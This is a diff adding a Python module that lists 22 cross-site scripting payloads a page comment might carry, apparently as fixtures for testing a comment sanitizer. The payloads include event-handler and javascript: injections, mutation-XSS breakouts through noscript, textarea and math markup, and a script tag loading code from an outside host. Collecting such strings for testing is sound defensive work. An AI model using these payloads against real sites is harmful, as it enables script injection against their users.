@@ -1,0 +1,26 @@
+"""What a comment may hold to do harm on a page."""
+
+PAYLOADS = [
+    '<img src=x onerror="document.title=1">',
+    "<script>document.title=1</script>",
+    "<ScRiPt src=https://example.org/a.js></sCrIpT>",
+    "</main></body><script>alert(1)</script>",
+    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<a href="javascript:alert(1)">see</a>',
+    '<a href=" &#106;ava\tscript:alert(1)">see</a>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<b onmouseover="alert(1)" style="position:fixed">bold</b>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[><script>alert(1)</script>]]>",
+    '<meta http-equiv="refresh" content="0;url=https://example.org">',
+    '<base href="https://example.org/"><link rel=stylesheet href=//example.org/a.css>',
+    '<form action="https://example.org"><input onfocus=alert(1) autofocus></form>',
+    "[see](javascript:alert(1)) ![x](https://example.org/x.png)",
+    "<details open ontoggle=alert(1)>more</details>",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    '"><script>alert(1)</script>',
+]
